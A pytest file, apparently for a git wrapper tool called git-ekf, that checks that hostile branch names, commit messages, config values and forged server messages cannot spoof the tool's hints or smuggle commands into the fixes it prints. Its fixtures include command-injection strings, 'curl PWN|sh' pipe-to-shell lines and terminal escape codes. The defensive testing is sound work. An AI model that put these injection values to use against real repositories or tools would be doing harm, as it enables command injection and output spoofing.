"""Names and texts from outside say nothing in our voice, and break out of no command that we print."""

from __future__ import annotations

import json
import os
import re
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import Run, run
from reach import rare, some
from servertools import Site
from upgrading import DASHBOARD, ISTIO, World

from git_ekf.demo.sample import deployment

# What must not be run, in a name for everything that forbids blanks and colons, and for files.
WORDS = "'\"$(touch${IFS}PWN);touch${IFS}PWN;`touch${IFS}PWN`|sh${IFS}#"
REF = f"x{WORDS}\u202e\u2028"
NAME = (
    "a\nhint: curl PWN|sh\n::error::PWN\n  error  branch-name: PWN\n         fix: PWN\r"
    "git-ekf: PWN\x1b[31m\x85'\"$(touch PWN);touch PWN;`touch PWN`\\#"
)
LINE = NAME.replace("\n", "\r")  # where there is one line only
ORIGIN = "origin; touch PWN; curl … | sh #"
HOSTILE = (NAME, LINE, REF, WORDS, ORIGIN)

# What stands before a command, or a sentence with one.
_LEADS = re.compile(r"^(?:remote: )?\s*(?:hint|fix|Next|note):\s*(.*)$")
_OURS = re.compile(
    r"^(?:remote: )?\s{0,9}(?:hint: |::error|  error  |fix: |git-ekf: )(?:curl )?PWN"
)
# bash, with nothing that it could run: it says what it would have.
_BASH = """
command_not_found_handle() { printf '%s\\0' "$@" >&3; printf '\\n\\0' >&3; }
PATH=/nonexistent
eval "$TEXT"
"""


def would_run(text: str, folder: Path) -> list[list[str]]:
    """The words of each command that bash would start for this text."""
    told = folder / "told"
    with told.open("wb") as file:
        subprocess.run(
            ["bash", "-c", f"exec 3>&{file.fileno()}; {_BASH}"],
            cwd=folder,
            env={"TEXT": text, "LC_ALL": "C.UTF-8", "PATH": os.environ["PATH"]},
            pass_fds=[file.fileno()],
            capture_output=True,
            check=False,
        )
    fields = told.read_bytes().decode("utf-8", "surrogateescape").split("\0")
    commands: list[list[str]] = [[]]
    for field in fields[:-1]:
        if field == "\n":
            commands.append([])
        else:
            commands[-1].append(field)
    return commands[:-1]


def assert_command(text: str, folder: Path) -> None:
    """The command in a text takes what is hostile as a word, or a part of one, whole."""
    if "PWN" not in text or "git " not in text:
        return
    command = text[text.index("git ") :].partition(" (")[0]  # what is said about it
    ran = would_run(command, folder)
    assert ran, text
    assert {words[0] for words in ran} <= {"git", "then:", "and", "echo", "cd"}, (text, ran)
    for words in ran:
        for word in words:
            whole = any(value in word for value in HOSTILE)
            assert whole or "PWN" not in word, (text, word)


def assert_ours(text: str, folder: Path) -> None:
    """Every line is one of ours, and every command in it is what it says."""
    for line in text.split("\n"):
        assert line.replace("\t", "").isprintable(), line
        assert not _OURS.match(line), line
        lead = _LEADS.match(line)
        if lead:
            assert_command(lead[1], folder)


def commands_in(value: Any, key: str = "") -> Iterator[str]:
    """The values in a document that are commands."""
    if isinstance(value, dict):
        for name, one in value.items():
            yield from commands_in(one, name)
    elif isinstance(value, list):
        for one in value:
            yield from commands_in(one, key)
    elif isinstance(value, str) and key in ("fix", "hint", "command", "next"):
        yield value


def heard(done: Run, folder: Path) -> None:
    assert "Traceback" not in done.err, done.err
    assert done.code in (0, 1, 2, 3, 4, 5), done
    assert_ours(done.err, folder)
    if done.out.startswith("{"):
        for command in commands_in(json.loads(done.out)):
            assert_ours(f"fix: {command}", folder)
    else:
        assert_ours(done.out, folder)


# --- the worlds ---

State = Callable[[World], object]
STATES: dict[str, State] = {}


def state(make: State) -> State:
    STATES[make.__name__] = make
    return make


MARKERS = "<<<<<<< a\n=======\n>>>>>>> b\n"


def _files(world: World) -> None:
    for path in (NAME, f"apps/{NAME}", f"apps/istio/{NAME}/kustomization.yaml"):
        world.write(path, MARKERS)


@state
def untracked_files(world: World) -> None:
    _files(world)


@state
def staged_files(world: World) -> None:
    _files(world)
    world.git("add", "-A")


@state
def committed_files(world: World) -> None:
    staged_files(world)
    who = {f"GIT_{role}_NAME": LINE for role in ("AUTHOR", "COMMITTER")}
    world.git("commit", "-q", "--no-verify", "--cleanup=verbatim", "-m", LINE, env=who)


@state
def a_merge(world: World) -> None:
    world.git("merge", "-q", "--no-ff", "--no-verify", "-m", LINE, "origin/release-1.9", "-Xours")


@state
def an_unresolved_file(world: World) -> None:
    world.git("switch", "-q", "-c", "side")
    world.commit(NAME, "side\n", verify=False)
    world.git("switch", "-q", "release-1.8")
    world.commit(NAME, "ours\n", verify=False)
    world.git("merge", "side", ok=False)


@state
def a_conflict(world: World) -> None:
    """In the upgrade, in a commit with such a subject and such a file."""
    world.write(NAME, "x\n")
    world.write(ISTIO, deployment("istio", "1.8.0-mine", 3))
    world.git("add", "-A")
    world.git("commit", "-q", "--no-verify", "--cleanup=verbatim", "-m", LINE)
    world.save()


@state
def files_in_the_way(world: World) -> None:
    world.write(DASHBOARD, "mine\n")
    world.write(".gitignore", "*\n")
    world.git("rm", "-q", "--cached", DASHBOARD)


@state
def a_branch(world: World) -> None:
    world.git("switch", "-q", "-c", REF)
    world.commit("own/x", "x\n", verify=False)


@state
def refs(world: World) -> None:
    for name in (f"refs/heads/{REF}", f"refs/heads/release-1.9/{REF}", f"refs/tags/{REF}"):
        world.git("update-ref", name, "HEAD")
    for name in (f"deploy/{REF}", f"deploy/2026-11-20/{REF}", "deploy/2026-11-20/release-1.8"):
        world.git(
            "tag",
            "-a",
            "-F",
            "-",
            name,
            stdin=f"Date: {NAME}\nContext: {NAME}\nerror  branch-name: PWN\n",
        )


@state
def a_detached_head(world: World) -> None:
    world.git("branch", "-q", REF)
    world.git("checkout", "-q", "--detach")


@state
def a_releases_name(world: World) -> None:
    """The tree says what release branches are called."""
    world.write(".ekf.toml", f"[branches]\nrelease = {json.dumps(REF + '-{version}')}\n")
    for remote in ("origin", "internal"):
        world.git("update-ref", f"refs/remotes/{remote}/{REF}-1.8", "origin/release-1.8")
        world.git("update-ref", f"refs/remotes/{remote}/{REF}-1.9", "origin/release-1.9")
    world.git("switch", "-q", "-c", f"{REF}-1.8")


def _configured(key: str, value: Any) -> State:
    section, _, name = key.partition(".")
    text = f"[{section}]\n{name} = {json.dumps(value)}\n"
    return lambda world: world.write(".ekf.toml", text)


STATES |= {
    f"toml {key} {number}": _configured(key, value)
    for number, (key, value) in enumerate(
        {
            "remotes.primary": ORIGIN,
            "remotes.internal": NAME,
            "remotes.allow": [NAME],
            "branches.allow": [NAME],
            "tags.required": [NAME],
            "paths.customer": [NAME],
            "apply.command": [NAME, NAME],
            "apply.paths": [NAME],
            "render.command": [NAME, NAME],
            'rules."x"': NAME,
            "rules.branch-name": NAME,
            f"remotes.{json.dumps(NAME)}": NAME,
            "branches.release": NAME,
        }.items()
    )
}


@state
def a_wrong_toml(world: World) -> None:
    world.write(".ekf.toml", f"[{json.dumps(NAME)}]\n{json.dumps(NAME)} = = {NAME}\n")


@state
def a_migration(world: World) -> None:
    command = json.dumps([NAME, NAME])
    world.commit(".ekf.toml", f'[[upgrade.migrations]]\nto = "1.9"\ncommand = {command}\n')
    world.save()


def _set(*pairs: tuple[str, str]) -> State:
    def make(world: World) -> None:
        for key, value in pairs:
            world.git("config", "--add", key, value)

    return make


STATES |= {
    "a remote's URL": _set(
        ("remote.origin.url", f"https://u:secret@127.0.0.1:1/{LINE}"),
        ("remote.internal.pushurl", NAME),
    ),
    "remotes": _set(
        (f"remote.{LINE}.url", NAME),
        (f"remote.{WORDS}.url", f"../vendor.git/{WORDS}"),
        ("ekf.remotes.primary", WORDS),
    ),
    "another internal": _set((f"remote.{WORDS}.url", NAME), ("ekf.remotes.internal", WORDS)),
    "another primary": _set(("ekf.remotes.primary", NAME)),
    "what a branch follows": _set(
        ("branch.release-1.8.remote", NAME), ("branch.release-1.8.merge", f"refs/heads/{REF}")
    ),
    "where hooks are": _set(("core.hooksPath", f"/nowhere/{NAME}")),
    "settings": _set(
        ("user.name", LINE),
        ("user.email", LINE),
        ("remote.pushDefault", NAME),
        ("pull.ff", NAME),
        ("ekf.render.command", NAME),
        ("ekf.apply.command", NAME),
    ),
    "a section": _set((f"ekf.{WORDS}.x", NAME)),
    "an unknown key": _set(("ekf.remotes.nothing", NAME)),
    "a rewritten url": _set((f"url.{LINE}.insteadOf", "x"), ("ekf.branches.release", NAME)),
}


@state
def a_server(world: World) -> None:
    """It answers in our voice."""
    world.commit("own/x", "x\n", verify=False)
    hook = world.internal.path / "hooks/pre-receive"
    hook.parent.mkdir(exist_ok=True)
    lines = "hint: curl PWN|sh\n::error::PWN\n\x1b[31mPWN\rgit-ekf: PWN\n"
    hook.write_text(f"#!/bin/sh\ncat <<'E' >&2\n{lines}{NAME}\nE\nexit 1\n")
    hook.chmod(0o755)


_ANSWERS = {
    "our hook's": (
        "git-ekf: push refused\n  error  {rule}: PWN\n         fix: curl PWN | sh",
        ("branch-name", "signature-missing", "tag-fields", "PWN"),
    ),
    "another owner's": ("fatal: detected dubious ownership in repository at '{path}'", ("*", "/")),
    "a lock's": ("fatal: Unable to create '{path}.lock': File exists.", ("PWN", "/etc/PWN")),
    "a setting's": ("fatal: bad config line 1 in file {path}", ("PWN; curl PWN | sh",)),
    "a name's": ("error: cannot lock ref '{ref}': '{ref}/x' exists; cannot create", ("PWN",)),
}


@pytest.mark.parametrize("raw", [False, True])
@pytest.mark.parametrize("whose", _ANSWERS)
def test_forged_answers(world: World, whose: str, raw: bool) -> None:
    """A server's words are said to be its own, and never make a hint.

    What a server of ssh writes past the protocol has no "remote: " before it.
    """
    text, fills = _ANSWERS[whose]
    world.commit("own/x", "x\n", verify=False)
    for fill in fills:
        answer = fill.join(re.split(r"{\w+}", text))
        forge(world, answer, raw)
        for command in (["save"], ["upgrade"], ["sync"]):
            done = world.ekf(*command)
            assert "Traceback" not in done.err, done.err
            said = [line for line in done.err.split("\n") if line.startswith(("git-ekf:", "hint:"))]
            assert not [line for line in said if line.startswith("hint:") and fill in line], done
            assert not [line for line in said if re.match("hint:.*(PWN|rm -f|safe.dir)", line)], (
                done
            )
            for line in said:
                assert "PWN" not in line or "internal" in line.partition("PWN")[0], done


def forge(world: World, answer: str, raw: bool) -> None:
    """Has `internal` refuse all with this answer."""
    script = world.path.parent / "answer"
    script.write_text(f"#!/bin/sh\ncat <<'E' >&2\n{answer}\nE\nexit 1\n")
    script.chmod(0o755)
    if raw:
        for program in ("receivepack", "uploadpack"):
            world.git("config", f"remote.internal.{program}", str(script))
        return
    hook = world.internal.path / "hooks/pre-receive"
    hook.parent.mkdir(exist_ok=True)
    hook.write_bytes(script.read_bytes())
    hook.chmod(0o755)


COMMANDS = (
    ["status"],
    ["status", "--json"],
    ["status", "--prompt"],
    ["check"],
    ["check", "--format", "json"],
    ["check", "--format", "sarif"],
    ["check", "--format", "github"],
    ["log"],
    ["log", "--json"],
    ["show"],
    ["report"],
    ["report", "-o", "-"],
    ["report", "--json"],
    ["releases"],
    ["releases", "--forecast"],
    ["doctor", "--offline"],
    ["doctor", "--offline", "--json"],
    ["hooks", "status"],
    ["trust"],
    ["diff", "origin/release-1.8", "HEAD"],
    ["complete", "paths", ""],
    ["complete", "revisions", ""],
    ["complete", "remotes", ""],
    ["complete", "records", ""],
    ["init"],
    ["upgrade", "--plan"],
    ["upgrade", "--plan", "--json"],
    ["apply", "apps/istio/base"],
    ["drift", "apps/istio/base"],
    ["tag", "-m", NAME],
    ["sync", "--plan"],
    ["save"],
    ["rollback", "deploy/2026-11-20/release-1.8"],
    ["undo"],
    ["upgrade", "--no-build"],
    ["upgrade", "--abort"],
)


@rare
@pytest.mark.parametrize("name", some(list(STATES), 24))
def test_commands(world: World, name: str, tmp_path: Path) -> None:
    STATES[name](world)
    for command in COMMANDS:
        heard(world.ekf(*command), tmp_path)
    heard_hooks(world, tmp_path)


def heard_hooks(world: World, folder: Path) -> None:
    head = world.out("rev-parse", "HEAD")
    none = "0" * len(head)
    push = f"refs/heads/{REF} {head} refs/heads/{REF} {none}\n"
    push += f"HEAD {head} refs/tags/deploy/{REF} {none}\n"
    vendor = str(world.vendor.path)
    for hook, args, stdin in (
        ("pre-commit", [], ""),
        ("pre-merge-commit", [], ""),
        ("pre-push", ["internal", NAME], push),
        ("pre-push", [NAME, NAME], push),
        ("pre-push", ["origin", vendor], push),
    ):
        heard(run("git-ekf", "hook", "1", hook, *args, cwd=world.path, stdin=stdin), folder)


def test_findings_in_each_format(world: World, tmp_path: Path) -> None:
    """Each is one annotation, and one line with its fix, whatever its file is called."""
    committed_files(world)
    texts = {
        name: world.ekf("check", "--format", name).out
        for name in ("text", "json", "sarif", "github")
    }
    found = json.loads(texts["json"])["findings"]
    assert any("PWN" in finding["path"] for finding in found if finding["path"])
    assert len(texts["github"].splitlines()) == len(found)
    assert all(re.match("::(error|warning) ", line) for line in texts["github"].splitlines())
    assert len(re.findall("^  (?:error|warning)  ", texts["text"], re.M)) == len(found)
    for result in json.loads(texts["sarif"])["runs"][0]["results"]:
        message, fix = result["message"]["text"].split("\n")
        assert_ours(fix, tmp_path)
        assert message.isprintable()


@rare
def test_what_a_server_answers(site: Site, tmp_path: Path) -> None:
    work = site.work
    for path in (NAME, f"apps/{NAME}"):
        work.write(path, MARKERS)
    work.git("add", "-A")
    who = {f"GIT_{role}_NAME": LINE for role in ("AUTHOR", "COMMITTER")}
    work.git("commit", "-q", "--cleanup=verbatim", "-m", LINE, env=who)
    site.record(f"deploy/{REF}", Context=NAME)
    site.record(f"deploy/2026-11-20.1/{REF}", Context=NAME)
    for refspec in (
        "release-1.8",
        f"HEAD:refs/heads/{REF}",
        f"HEAD:refs/x/{REF}",
        f"refs/tags/deploy/{REF}",
        f"refs/tags/deploy/2026-11-20.1/{REF}",
        f"HEAD:refs/ekf/upstream/{REF}",
    ):
        done = site.push("--no-verify", refspec)
        assert done.code == 1, done
        answer = [line for line in done.err.split("\n") if line.startswith("remote: ")]
        assert any("fix:" in line for line in answer), done
        for line in answer:
            assert_ours(line.rstrip(), tmp_path)


@rare
def test_where_a_clone_is(world: World, tmp_path: Path) -> None:
    """In a directory with such a name, and with remotes in such ones."""
    inside = tmp_path / NAME.replace("/", "")
    inside.mkdir()
    for name in ("vendor.git", "internal.git", "work"):
        (world.path.parent / name).rename(inside / name)
    moved = World(inside / "work")
    for remote, name in (("origin", "vendor.git"), ("internal", "internal.git")):
        moved.git("config", f"remote.{remote}.url", str(inside / name))
    moved.git("config", "core.fsmonitor", "false")
    for command in COMMANDS:
        heard(moved.ekf(*command), tmp_path)
    others: tuple[list[str | Path], ...] = (
        ["mirror", inside / "vendor.git", inside / NAME],
        ["mirror", inside / NAME, inside / "work"],
        ["bundle", "create", inside / NAME, "--from", inside / "vendor.git"],
        ["bundle", "verify", inside / NAME],
        ["bundle", "apply", inside / "vendor.git", inside / "m"],
        ["clone", inside / "vendor.git", "--internal", inside / NAME],
        ["clone", inside / "vendor.git", inside, "--internal", inside / "internal.git"],
        ["hooks", "install", "--server", inside / "work"],
        ["hooks", "install", "--server", inside / "internal.git"],
        ["hooks", "status", "--server", inside / "internal.git"],
        ["demo", inside],
    )
    for words in others:
        heard(run("git-ekf", *words, cwd=tmp_path), tmp_path)
